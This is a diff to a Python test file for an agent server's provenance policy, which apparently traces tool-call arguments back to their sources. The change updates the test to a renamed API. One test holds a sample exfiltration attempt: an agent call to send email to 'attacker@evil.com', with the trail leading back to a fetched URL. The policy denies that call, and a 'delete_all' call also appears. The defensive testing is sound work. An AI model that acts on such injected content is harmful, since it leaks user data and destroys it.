@@ -4,9 +4,10 @@ import json
 
 import pytest
 
+from agentserver.core.detail_form import fields
 from agentserver.provenance import Mode, Policy, explain
 from agentserver.provenance.approval import digest, question
-from agentserver.provenance.explain import as_data
+from agentserver.provenance.explain import facts
 from agentserver.provenance.labels import Call, Leaf
 from agentserver.provenance.verdict import Decision
 from tests.provenance.scenes import Scenario
@@ -73,13 +74,15 @@ def test_control_characters_of_a_value_never_reach_a_terminal() -> None:
 
 
 def test_the_data_is_json_with_the_same_facts() -> None:
-    data = json.loads(json.dumps(as_data(scene().call("send_email", to="attacker@evil.com", body="x"))))
+    verdict = scene().call("send_email", to="attacker@evil.com", body="x")
+    data = fields(facts(verdict))
+    assert json.loads(json.dumps(data)) == data
     [finding] = data["findings"]
     assert data["decision"] == "deny"
     assert finding["rule"] == "destination"
-    assert finding["evidence"]["source"] == "fetch_url"
-    assert finding["evidence"]["hops"] == [{"listener": "summariser", "field": "", "step": 2}]
-    assert as_data(scene().call("delete_all"))["findings"][0]["role"] is None
+    assert finding["trail"]["source"] == "fetch_url"
+    assert finding["trail"]["hops"] == [{"listener": "summariser", "field": "", "step": 2}]
+    assert facts(scene().call("delete_all")).findings[0].role == ""
 
 
 def test_a_question_binds_to_one_call() -> None:
